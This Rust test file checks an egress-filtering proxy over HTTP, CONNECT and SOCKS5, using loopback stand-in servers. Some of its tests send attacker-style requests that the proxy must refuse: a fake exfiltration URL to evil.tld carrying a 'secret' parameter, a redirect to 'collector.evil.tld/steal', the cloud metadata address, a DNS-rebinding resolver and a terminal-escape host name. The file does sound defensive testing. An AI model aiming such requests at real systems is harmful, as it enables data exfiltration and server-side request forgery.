//! The proxy against stand-in servers on loopback (issue #50, "Tested"): real package-registry
//! names pinned to local servers, reached through CONNECT, plain HTTP and SOCKS5 by curl and by
//! raw clients; refusals answered and reported once per host.

use std::net::IpAddr;
use std::time::Duration;

use pincer_egress::proxy::{Listener, Proxy};
use pincer_egress::{DenialReason, Protocol, StaticResolver};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpStream, UnixListener, UnixStream};

use crate::support::{Origin, curl, echo, exchange, loopback, policy, start, stdout};

#[tokio::test]
async fn an_allowed_name_reaches_its_server_through_plain_http() {
    let origin = Origin::start("npm-stand-in", None).await;
    let proxy = start(
        policy(
            &["@npm"],
            &[],
            &[("registry.npmjs.org", origin.address.to_string())],
        ),
        StaticResolver::new(),
    )
    .await;
    let output = curl(
        &[
            "-H",
            "Proxy-Connection: keep-alive",
            "-H",
            "Connection: X-Hop",
            "-H",
            "X-Hop: secret",
            "http://registry.npmjs.org/left-pad",
        ],
        &[("http_proxy", &proxy.url())],
    )
    .await;
    assert_eq!(
        stdout(&output),
        "npm-stand-in GET /left-pad\n\n200",
        "{output:?}"
    );
    // The server got an origin-form request for its own name, without the hop-by-hop headers.
    let heads = origin.heads();
    assert_eq!(heads.len(), 1);
    let head = heads[0].to_lowercase();
    assert!(head.starts_with("get /left-pad http/1.1\r\n"), "{head}");
    assert!(head.contains("host: registry.npmjs.org\r\n"), "{head}");
    for hop in ["proxy-connection", "x-hop", "connection:"] {
        assert!(!head.contains(hop), "{hop} passed on: {head}");
    }
    assert!(proxy.reported().is_empty());
}

#[tokio::test]
async fn an_allowed_name_reaches_its_server_through_connect() {
    let origin = Origin::start("pypi-stand-in", None).await;
    let proxy = start(
        policy(
            &["@pypi"],
            &[],
            &[("files.pythonhosted.org", origin.address.to_string())],
        ),
        StaticResolver::new(),
    )
    .await;
    // --proxytunnel: curl opens a CONNECT tunnel as it does for https, and speaks inside it.
    let output = curl(
        &[
            "--proxytunnel",
            "--proxy",
            &proxy.url(),
            "http://files.pythonhosted.org:8443/packages/x.whl",
        ],
        &[],
    )
    .await;
    assert_eq!(
        stdout(&output),
        "pypi-stand-in GET /packages/x.whl\n\n200",
        "{output:?}"
    );
}

#[tokio::test]
async fn an_allowed_name_reaches_its_server_through_socks5_resolved_by_the_proxy() {
    let origin = Origin::start("crates-stand-in", None).await;
    // Not pinned: the proxy's resolver answers, and the exact name the user wrote names it.
    let resolver = StaticResolver::new().with("index.crates.io", &[loopback()]);
    let proxy = start(policy(&["index.crates.io"], &[], &[]), resolver.clone()).await;
    let url = format!("http://index.crates.io:{}/config.json", origin.port());
    let output = curl(
        &["--proxy", &format!("socks5h://{}", proxy.address), &url],
        &[],
    )
    .await;
    assert_eq!(
        stdout(&output),
        "crates-stand-in GET /config.json\n\n200",
        "{output:?}"
    );
    assert_eq!(resolver.asked(), ["index.crates.io"]);
}

#[tokio::test]
async fn an_unnamed_host_is_refused_with_one_denial_and_is_never_resolved() {
    let resolver = StaticResolver::new().with("evil.tld", &[loopback()]);
    let proxy = start(policy(&["@npm"], &[], &[]), resolver.clone()).await;
    for _ in 0..3 {
        let output = curl(
            &["http://evil.tld/upload?secret=1"],
            &[("http_proxy", &proxy.url())],
        )
        .await;
        let text = stdout(&output);
        assert!(text.ends_with("\n403"), "{text}");
        assert!(
            text.contains("pincer refused the connection to evil.tld: no rule allows it"),
            "{text}"
        );
    }
    let output = curl(
        &[
            "--proxy",
            &format!("socks5h://{}", proxy.address),
            "http://evil.tld/",
        ],
        &[],
    )
    .await;
    // curl names the SOCKS5 reply: 2, "connection not allowed by ruleset".
    let errors = String::from_utf8_lossy(&output.stderr);
    assert!(
        errors.contains("evil.tld") && errors.contains("(2)"),
        "{output:?}"
    );
    // A refused name is never looked up: a DNS query would carry it out by itself.
    assert!(resolver.asked().is_empty(), "{:?}", resolver.asked());
    let reported = proxy.reported();
    assert_eq!(reported.len(), 1, "{reported:?}");
    assert_eq!(reported[0].host, "evil.tld");
    assert_eq!(reported[0].port, 80);
    assert_eq!(reported[0].reason, DenialReason::NotAllowed);
    assert_eq!(reported[0].protocol, Protocol::Http);
    let denials = proxy.running.stop().await;
    assert_eq!(denials.len(), 1);
    assert_eq!(denials[0].count, 4);
}

#[tokio::test]
async fn a_denied_host_is_refused_even_where_a_wildcard_allows_it() {
    let origin = Origin::start("stand-in", None).await;
    let proxy = start(
        policy(
            &["*.pythonhosted.org"],
            &["evil.pythonhosted.org"],
            &[
                ("files.pythonhosted.org", origin.address.to_string()),
                ("evil.pythonhosted.org", origin.address.to_string()),
            ],
        ),
        StaticResolver::new(),
    )
    .await;
    let allowed = curl(
        &["http://files.pythonhosted.org/"],
        &[("http_proxy", &proxy.url())],
    )
    .await;
    assert!(stdout(&allowed).ends_with("\n200"), "{allowed:?}");
    let denied = curl(
        &["http://evil.pythonhosted.org/"],
        &[("http_proxy", &proxy.url())],
    )
    .await;
    assert!(stdout(&denied).ends_with("\n403"), "{denied:?}");
    assert_eq!(origin.heads().len(), 1);
    assert_eq!(
        proxy.reported()[0].reason,
        DenialReason::DeniedByRule {
            rule: "evil.pythonhosted.org".to_owned()
        }
    );
}

#[tokio::test]
async fn a_name_that_only_ends_like_an_allowed_one_is_refused_on_every_protocol() {
    let origin = Origin::start("docs", None).await;
    let resolver = StaticResolver::new()
        .with("docs.python.org", &[loopback()])
        .with("docs.python.org.evil.tld", &[loopback()]);
    let proxy = start(
        policy(
            &["docs.python.org"],
            &[],
            &[("docs.python.org", origin.address.to_string())],
        ),
        resolver.clone(),
    )
    .await;
    let url = "http://docs.python.org.evil.tld/";
    let plain = curl(&[url], &[("http_proxy", &proxy.url())]).await;
    assert!(stdout(&plain).ends_with("\n403"), "{plain:?}");
    let tunnel = curl(&["--proxytunnel", "--proxy", &proxy.url(), url], &[]).await;
    assert!(
        String::from_utf8_lossy(&tunnel.stderr).contains("403"),
        "{tunnel:?}"
    );
    let socks = curl(
        &["--proxy", &format!("socks5h://{}", proxy.address), url],
        &[],
    )
    .await;
    assert!(!socks.status.success(), "{socks:?}");
    let good = curl(
        &["http://DOCS.python.org./3/"],
        &[("http_proxy", &proxy.url())],
    )
    .await;
    assert!(stdout(&good).starts_with("docs GET /3/"), "{good:?}");
    assert!(resolver.asked().is_empty());
    let reported = proxy.reported();
    assert_eq!(reported.len(), 1, "{reported:?}");
    assert_eq!(reported[0].host, "docs.python.org.evil.tld");
    assert_eq!(proxy.running.stop().await[0].count, 3);
}

/// Issue #50: `*.x.org` does not match `evilx.org` (the suffix is not on a label boundary).
#[tokio::test]
async fn a_wildcard_reaches_only_the_names_beneath_it_on_a_label_boundary() {
    let origin = Origin::start("files", None).await;
    let resolver = StaticResolver::new()
        .with("files.pythonhosted.org", &[loopback()])
        .with("evilpythonhosted.org", &[loopback()]);
    let proxy = start(
        policy(
            &["*.pythonhosted.org"],
            &[],
            &[("files.pythonhosted.org", origin.address.to_string())],
        ),
        resolver.clone(),
    )
    .await;
    let evil = curl(
        &["http://evilpythonhosted.org/"],
        &[("http_proxy", &proxy.url())],
    )
    .await;
    assert!(stdout(&evil).ends_with("\n403"), "{evil:?}");
    let good = curl(
        &["http://files.pythonhosted.org/p/"],
        &[("http_proxy", &proxy.url())],
    )
    .await;
    assert!(stdout(&good).starts_with("files GET /p/"), "{good:?}");
    assert!(resolver.asked().is_empty());
    let reported = proxy.reported();
    assert_eq!(reported.len(), 1, "{reported:?}");
    assert_eq!(reported[0].host, "evilpythonhosted.org");
    assert_eq!(reported[0].reason, DenialReason::NotAllowed);
}

#[tokio::test]
async fn an_allowed_name_that_resolves_to_a_private_address_is_refused_unless_named() {
    let origin = Origin::start("internal", None).await;
    // The resolver (not a pin) says these names are on this machine.
    let resolver = StaticResolver::new()
        .with("files.pythonhosted.org", &[loopback()])
        .with(
            "metadata.cloud.example",
            &["169.254.169.254".parse().unwrap()],
        )
        .with("api.internal.example", &[loopback()]);
    let proxy = start(
        policy(
            &["@pypi", "*.cloud.example", "api.internal.example"],
            &[],
            &[],
        ),
        resolver,
    )
    .await;
    let port = origin.port();
    for (host, kind) in [
        ("files.pythonhosted.org", "a loopback address"),
        ("metadata.cloud.example", "a link-local address"),
    ] {
        let output = curl(
            &[&format!("http://{host}:{port}/")],
            &[("http_proxy", &proxy.url())],
        )
        .await;
        let text = stdout(&output);
        assert!(text.ends_with("\n403"), "{host}: {text}");
        assert!(text.contains(kind), "{host}: {text}");
    }
    // The user wrote this name out: its private address is theirs to reach.
    let named = curl(
        &[&format!("http://api.internal.example:{port}/v1")],
        &[("http_proxy", &proxy.url())],
    )
    .await;
    assert_eq!(stdout(&named), "internal GET /v1\n\n200", "{named:?}");
    assert_eq!(origin.heads().len(), 1);
    let reported = proxy.reported();
    assert!(matches!(
        reported[0].reason,
        DenialReason::PrivateAddress { address, .. } if address == loopback()
    ));
    assert!(matches!(
        reported[1].reason,
        DenialReason::PrivateAddress { address, .. }
            if address == "169.254.169.254".parse::<IpAddr>().unwrap()
    ));
}

#[tokio::test]
async fn a_redirect_to_an_unnamed_host_is_refused() {
    let origin = Origin::start(
        "registry",
        Some("http://collector.evil.tld/steal".to_owned()),
    )
    .await;
    let proxy = start(
        policy(
            &["registry.npmjs.org"],
            &[],
            &[("registry.npmjs.org", origin.address.to_string())],
        ),
        StaticResolver::new(),
    )
    .await;
    let output = curl(
        &["-L", "http://registry.npmjs.org/redirect"],
        &[("http_proxy", &proxy.url())],
    )
    .await;
    let text = stdout(&output);
    assert!(text.ends_with("\n403"), "{text}");
    assert!(text.contains("collector.evil.tld"), "{text}");
    let reported = proxy.reported();
    assert_eq!(reported.len(), 1);
    assert_eq!(reported[0].host, "collector.evil.tld");
}

#[tokio::test]
async fn each_request_on_a_kept_alive_connection_is_decided_on_its_own() {
    let origin = Origin::start("registry", None).await;
    let other = Origin::start("other", None).await;
    let proxy = start(
        policy(
            &["registry.npmjs.org"],
            &[],
            &[
                ("registry.npmjs.org", origin.address.to_string()),
                ("evil.tld", other.address.to_string()),
            ],
        ),
        StaticResolver::new(),
    )
    .await;
    let mut stream = TcpStream::connect(proxy.address).await.unwrap();
    let first = exchange(
        &mut stream,
        b"GET http://registry.npmjs.org/a HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\n",
        "registry GET /a\n",
    )
    .await;
    assert!(first.starts_with("HTTP/1.1 200"), "{first}");
    // Same connection, another host, and a Host header that tries to name the allowed one.
    let second = exchange(
        &mut stream,
        b"GET http://evil.tld/b HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\n",
        "no rule allows it\n",
    )
    .await;
    assert!(second.starts_with("HTTP/1.1 403"), "{second}");
    assert!(
        second
            .to_lowercase()
            .contains("proxy-status: pincer; error=http_request_denied"),
        "{second}"
    );
    // And back: the connection still serves allowed requests.
    let third = exchange(
        &mut stream,
        b"GET http://registry.npmjs.org/c HTTP/1.1\r\nHost: evil.tld\r\n\r\n",
        "registry GET /c\n",
    )
    .await;
    assert!(third.starts_with("HTTP/1.1 200"), "{third}");
    assert!(other.heads().is_empty());
    // The Host header sent upstream is the URL's, not the client's.
    assert!(
        origin.heads()[1]
            .to_lowercase()
            .contains("host: registry.npmjs.org\r\n"),
        "{:?}",
        origin.heads()
    );
}

/// A SOCKS5 CONNECT for `address` (already encoded: type and bytes) and `port`; the reply code
/// and the stream.
async fn socks_connect(proxy: std::net::SocketAddr, address: &[u8], port: u16) -> (u8, TcpStream) {
    let mut stream = TcpStream::connect(proxy).await.unwrap();
    stream.write_all(&[5, 1, 0]).await.unwrap();
    let mut choice = [0_u8; 2];
    stream.read_exact(&mut choice).await.unwrap();
    assert_eq!(choice, [5, 0]);
    let mut request = vec![5, 1, 0];
    request.extend_from_slice(address);
    request.extend_from_slice(&port.to_be_bytes());
    stream.write_all(&request).await.unwrap();
    let mut reply = [0_u8; 4];
    stream.read_exact(&mut reply).await.unwrap();
    let rest = match reply[3] {
        1 => 4 + 2,
        4 => 16 + 2,
        other => panic!("reply address type {other}"),
    };
    let mut bound = vec![0_u8; rest];
    stream.read_exact(&mut bound).await.unwrap();
    (reply[1], stream)
}

async fn greeting_and_echo(stream: &mut TcpStream, expected: &str) {
    let mut greeting = vec![0_u8; expected.len()];
    stream.read_exact(&mut greeting).await.unwrap();
    assert_eq!(String::from_utf8_lossy(&greeting), expected);
    stream.write_all(b"ping\n").await.unwrap();
    let mut echoed = [0_u8; 5];
    stream.read_exact(&mut echoed).await.unwrap();
    assert_eq!(&echoed, b"ping\n");
}

#[tokio::test]
async fn a_raw_tcp_client_reaches_an_allowed_host_and_port_through_socks5() {
    let server = echo("127.0.0.1:0", "db").await;
    let port = server.port();
    let resolver = StaticResolver::new();
    let proxy = start(
        policy(
            &[&format!("localhost:{port}"), &format!("127.0.0.1:{port}")],
            &[],
            &[],
        ),
        resolver.clone(),
    )
    .await;
    // By name (resolved by the proxy: localhost is loopback, never the resolver).
    let name = b"\x03\x09localhost".to_vec();
    let (reply, mut stream) = socks_connect(proxy.address, &name, port).await;
    assert_eq!(reply, 0);
    greeting_and_echo(&mut stream, "hello db\n").await;
    // By IPv4 address.
    let (reply, mut stream) = socks_connect(proxy.address, &[1, 127, 0, 0, 1], port).await;
    assert_eq!(reply, 0);
    greeting_and_echo(&mut stream, "hello db\n").await;
    // Another port of the same host: not allowed.
    let (reply, _) = socks_connect(proxy.address, &name, port.wrapping_add(1)).await;
    assert_eq!(reply, 2, "connection not allowed by ruleset");
    assert!(resolver.asked().is_empty());
}

#[tokio::test]
async fn socks5_reaches_an_ipv6_address_a_rule_names_and_refuses_others() {
    let Ok(listener) = std::net::TcpListener::bind("[::1]:0") else {
        panic!("this test needs IPv6 loopback (::1)");
    };
    drop(listener);
    let server = echo("[::1]:0", "six").await;
    let port = server.port();
    let proxy = start(
        policy(&[&format!("[::1]:{port}")], &[], &[]),
        StaticResolver::new(),
    )
    .await;
    let mut address = vec![4];
    address.extend_from_slice(&std::net::Ipv6Addr::LOCALHOST.octets());
    let (reply, mut stream) = socks_connect(proxy.address, &address, port).await;
    assert_eq!(reply, 0);
    greeting_and_echo(&mut stream, "hello six\n").await;
    // ::ffff:127.0.0.1 is 127.0.0.1, which no rule names.
    let mut mapped = vec![4];
    mapped.extend_from_slice(
        &"::ffff:127.0.0.1"
            .parse::<std::net::Ipv6Addr>()
            .unwrap()
            .octets(),
    );
    let (reply, _) = socks_connect(proxy.address, &mapped, port).await;
    assert_eq!(reply, 2);
    assert_eq!(proxy.reported()[0].host, "127.0.0.1");
}

#[tokio::test]
async fn socks5_answers_what_it_does_not_do() {
    let proxy = start(policy(&["example.org"], &[], &[]), StaticResolver::new()).await;
    // BIND (2) is not supported.
    let mut stream = TcpStream::connect(proxy.address).await.unwrap();
    stream.write_all(&[5, 1, 0]).await.unwrap();
    let mut choice = [0_u8; 2];
    stream.read_exact(&mut choice).await.unwrap();
    stream
        .write_all(&[5, 2, 0, 1, 127, 0, 0, 1, 0, 80])
        .await
        .unwrap();
    let mut reply = [0_u8; 2];
    stream.read_exact(&mut reply).await.unwrap();
    assert_eq!(reply, [5, 7]);
    // Only username/password offered: no acceptable method.
    let mut stream = TcpStream::connect(proxy.address).await.unwrap();
    stream.write_all(&[5, 1, 2]).await.unwrap();
    stream.read_exact(&mut choice).await.unwrap();
    assert_eq!(choice, [5, 0xff]);
    // A name that does not resolve: host unreachable, reported as such.
    let mut name = vec![3, 11];
    name.extend_from_slice(b"example.org");
    let (reply, _) = socks_connect(proxy.address, &name, 443).await;
    assert_eq!(reply, 4);
    assert!(matches!(
        proxy.reported()[0].reason,
        DenialReason::ResolutionFailed { .. }
    ));
    // A name with a terminal escape in it: refused, and reported without the escape.
    let escape = b"\x1b[2Jevil.tld";
    let mut name = vec![3, escape.len() as u8];
    name.extend_from_slice(escape);
    let (reply, _) = socks_connect(proxy.address, &name, 443).await;
    assert_eq!(reply, 1, "general failure");
    let reported = proxy.reported();
    assert!(matches!(
        reported[1].reason,
        DenialReason::InvalidHost { .. }
    ));
    assert_eq!(reported[1].host, "\\u{1b}[2Jevil.tld");
    assert!(!reported[1].to_string().contains('\x1b'));
}

#[tokio::test]
async fn every_connection_resolves_again_and_checks_what_it_dials() {
    /// Answers loopback first, then the metadata address: a rebinding name.
    struct Rebinding(std::sync::atomic::AtomicUsize);
    impl pincer_egress::Resolve for Rebinding {
        fn resolve<'a>(
            &'a self,
            _name: &'a pincer_egress::DomainName,
        ) -> pincer_egress::Resolving<'a> {
            let call = self.0.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let address: IpAddr = if call == 0 {
                loopback()
            } else {
                "169.254.169.254".parse().unwrap()
            };
            Box::pin(async move { Ok(vec![address]) })
        }
    }
    let origin = Origin::start("first", None).await;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let proxy = Proxy::builder(policy(&["rebind.example"], &["169.254.0.0/16"], &[]))
        .resolver(Rebinding(Default::default()))
        .build();
    let running = proxy.spawn([Listener::Tcp(listener)]);
    let url = format!("http://rebind.example:{}/", origin.port());
    let proxy_url = format!("http://{address}");
    let first = curl(&[&url], &[("http_proxy", &proxy_url)]).await;
    assert_eq!(stdout(&first), "first GET /\n\n200");
    let second = curl(&[&url], &[("http_proxy", &proxy_url)]).await;
    assert!(stdout(&second).ends_with("\n403"), "{second:?}");
    let denials = running.stop().await;
    assert_eq!(
        denials[0].reason,
        DenialReason::DeniedByRule {
            rule: "169.254.0.0/16".to_owned()
        }
    );
}

#[tokio::test]
async fn one_unix_socket_serves_http_and_socks5() {
    let directory = std::env::temp_dir().join(format!("egress-{}", std::process::id()));
    std::fs::create_dir_all(&directory).unwrap();
    let path = directory.join("one-socket.sock");
    let _ = std::fs::remove_file(&path);
    let origin = Origin::start("registry", None).await;
    let server = echo("127.0.0.1:0", "raw").await;
    let proxy = Proxy::builder(policy(
        &[
            "registry.npmjs.org",
            &format!("localhost:{}", server.port()),
        ],
        &[],
        &[("registry.npmjs.org", origin.address.to_string())],
    ))
    .build();
    let running = proxy.spawn([Listener::Unix(UnixListener::bind(&path).unwrap())]);
    // HTTP: the first byte is a letter.
    let mut stream = UnixStream::connect(&path).await.unwrap();
    stream
        .write_all(b"GET http://registry.npmjs.org/x HTTP/1.1\r\nHost: registry.npmjs.org\r\nConnection: close\r\n\r\n")
        .await
        .unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).await.unwrap();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(answer.ends_with("registry GET /x\n"), "{answer}");
    // SOCKS5: the first byte is 5.
    let mut stream = UnixStream::connect(&path).await.unwrap();
    stream.write_all(&[5, 1, 0]).await.unwrap();
    let mut choice = [0_u8; 2];
    stream.read_exact(&mut choice).await.unwrap();
    let mut request = vec![5, 1, 0, 3, 9];
    request.extend_from_slice(b"localhost");
    request.extend_from_slice(&server.port().to_be_bytes());
    stream.write_all(&request).await.unwrap();
    let mut reply = [0_u8; 10];
    stream.read_exact(&mut reply).await.unwrap();
    assert_eq!(reply[1], 0);
    let mut greeting = [0_u8; 10];
    stream.read_exact(&mut greeting).await.unwrap();
    assert_eq!(&greeting, b"hello raw\n");
    assert!(running.stop().await.is_empty());
    let _ = std::fs::remove_dir_all(&directory);
}

#[tokio::test]
async fn stopping_the_proxy_ends_its_open_tunnels() {
    let server = echo("127.0.0.1:0", "held").await;
    let proxy = start(
        policy(&[&format!("127.0.0.1:{}", server.port())], &[], &[]),
        StaticResolver::new(),
    )
    .await;
    let (reply, mut stream) = socks_connect(proxy.address, &[1, 127, 0, 0, 1], server.port()).await;
    assert_eq!(reply, 0);
    greeting_and_echo(&mut stream, "hello held\n").await;
    proxy.running.stop().await;
    let mut rest = Vec::new();
    let read = tokio::time::timeout(Duration::from_secs(5), stream.read_to_end(&mut rest)).await;
    assert!(
        matches!(read, Ok(Ok(0)) | Ok(Err(_))),
        "the tunnel stayed open: {read:?}"
    );
}
